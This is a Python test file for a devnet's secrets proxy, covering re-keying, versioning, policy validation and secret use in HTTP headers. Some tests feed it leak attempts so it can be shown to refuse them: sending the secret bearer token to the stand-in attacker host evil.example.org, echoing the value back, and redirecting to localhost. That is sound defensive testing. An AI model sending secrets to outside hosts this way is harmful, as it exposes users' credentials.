"""Secrets as people keep them: a devnet's proxies deal a key, deal it again, and release values to whom policies name."""

import json

import pytest
from world import Refused, World, a_job, result, until

VALUE = "sk-very-secret"


def keep(world, name, value, *more, hosts="api.weather.test"):
    (world.folder / "value.txt").write_text(value + "\n")
    named = ["--hosts", hosts] if hosts else []
    return world.run("secret", "set", name, "--value-file", "value.txt", "--jobs", "http", *named, *more)


def test_a_secret_survives_its_committees(tmp_path):
    """A-241, A-242, A-243: what was sealed before the key was dealt again opens after it, and nobody but the owner can ask for it."""
    # Phases of a second and a half: a busy computer has time to answer in each.
    rows = ["secrets.term=60", "secrets.phase=15"]
    options = ["--block-time", "100ms", "--runners", "0", "--no-gateway", *(option for row in rows for option in ("--parameter", row))]
    with World(tmp_path, *options) as world:
        kept = keep(world, "WEATHER_KEY", VALUE, "--any-runner")
        assert (kept["version"], "any runner that is drawn could keep this value" in kept["readers"]) == (1, True)
        assert world.run("secret", "get", "WEATHER_KEY")["value"] == VALUE
        first = world.run("secret", "committee")["key"]
        assert (first["epoch"], len(first["members"]), first["threshold"]) == (1, 4, 3)
        again = until("two more dealings", lambda: (key := world.run("secret", "committee")["key"])["epoch"] >= 3 and key)
        assert again["master"] == first["master"]
        assert world.run("secret", "get", "WEATHER_KEY")["value"] == VALUE

        assert keep(world, "WEATHER_KEY", "another", "--any-runner")["version"] == 2
        assert world.run("secret", "get", "WEATHER_KEY")["value"] == "another"
        assert world.run("secret", "get", "WEATHER_KEY", "--version", "1")["value"] == VALUE
        with pytest.raises(Refused, match="secret_not_found"):
            world.run("secret", "get", "WEATHER_KEY", account=1)
        world.run("secret", "pause", "WEATHER_KEY")
        with pytest.raises(Refused, match="secret_paused"):
            world.run("secret", "get", "WEATHER_KEY")
        world.run("secret", "resume", "WEATHER_KEY")
        world.run("secret", "rm", "WEATHER_KEY")
        assert world.run("secret", "ls") == []
        assert keep(world, "WEATHER_KEY", "third", "--any-runner")["version"] == 3, "no version is sealed to twice"


def test_a_policy_names_somebody(tmp_path):
    """`secret set` refuses to guess who may see a value, values that do not fit, and secrets that no job can use."""
    with World(tmp_path, "--block-time", "100ms", "--runners", "0", "--no-gateway") as world:
        with pytest.raises(Refused, match="nobody is named who may see the value"):
            keep(world, "KEY", VALUE)
        with pytest.raises(Refused, match="is not a name"):
            keep(world, "key", VALUE, "--any-runner")
        with pytest.raises(Refused, match="at most 65020 bytes"):
            keep(world, "KEY", "x" * 70_000, "--any-runner")
        with pytest.raises(Refused, match="`copies` is 10"):
            keep(world, "KEY", VALUE, "--any-runner", "--copies", "10")
        with pytest.raises(Refused, match="value.txt has no value"):
            keep(world, "KEY", "", "--any-runner")
        with pytest.raises(Refused, match="could send the value to no host"):
            keep(world, "KEY", VALUE, "--any-runner", hosts=None)
        with pytest.raises(Refused, match="take no secrets"):
            world.run("secret", "set", "KEY", "--value-file", "value.txt", "--jobs", "llm", "--any-runner")
        assert world.run("secret", "ls") == [], "nothing was paid for"


def test_a_web_job_uses_a_secret(tmp_path):
    """A-234, A-241: the drawn runner puts the value into a header, for the host that the policy names, and gives no result that contains it."""
    options = ["--block-time", "200ms", "--runners", "2", "--no-gateway", "--no-demo", "--allow-private"]
    with World(tmp_path, *options) as world:
        web = world.server("web")
        world.runners_are(2)
        keep(world, "WEATHER_KEY", VALUE, "--any-runner", hosts="127.0.0.1")

        def job(path, **more):
            return a_job("Http", {"url": f"{web}{path}", "headers": {"authorization": "Bearer ${WEATHER_KEY}"}}, secrets=["WEATHER_KEY"], **more)

        submitted = world.submit(job("/guarded"))
        done = world.over(submitted)
        assert (done["status"], result(done)) == ("settled", '{"is_right": true}')
        submitted = world.get(f"/job/{submitted}")
        assert VALUE not in str(submitted) and VALUE.encode().hex() not in str(submitted)
        logs = "/actor/0x0000000000000000000000000000000000000004/logs?order=desc&limit=20"
        until("the receipt of the release", lambda: "release.closed" in [log["name"] for log in world.get(logs)["logs"]])

        echoed = world.over(world.submit(job("/guarded?echo=1")))
        assert echoed["status"] == "failed" and VALUE not in str(echoed), "the value stays in the runner"
        led_away = world.over(world.submit(job("/away?to=http://localhost:1/")))
        assert led_away["status"] == "failed"
        with pytest.raises(Refused, match="release_refused"):
            headers = {"authorization": "Bearer ${WEATHER_KEY}"}
            world.submit(a_job("Http", {"url": "https://evil.example.org/", "headers": headers}, secrets=["WEATHER_KEY"]))
        with pytest.raises(Refused, match="OTHER_KEY.* is the placeholder of a secret that secrets does not name"):
            world.submit(a_job("Http", {"url": web, "headers": {"authorization": "Bearer ${OTHER_KEY}"}}, secrets=["WEATHER_KEY"]))
        with pytest.raises(Refused, match="secrets names WEATHER_KEY, and no header, body or json"):
            world.submit(a_job("Http", {"url": web}, secrets=["WEATHER_KEY"]))
        local = lambda path, *more: world.run("job", "run", "--local", json.dumps(job(path)), "--allow-private", *more)
        with pytest.raises(Refused, match="--secret WEATHER_KEY=@FILE"):
            local("/guarded")
        assert local("/guarded", "--secret", "WEATHER_KEY=@value.txt")["result"] == '{"is_right": true}', "this computer has the value from a file"
        with pytest.raises(Refused, match="contains the value of the secret WEATHER_KEY"):
            local("/guarded?echo=1", "--secret", "WEATHER_KEY=@value.txt")
        with pytest.raises(Refused, match="secrets_not_applicable"):
            world.submit(a_job("Llm", {"prompt": "${WEATHER_KEY}"}, secrets=["WEATHER_KEY"]))
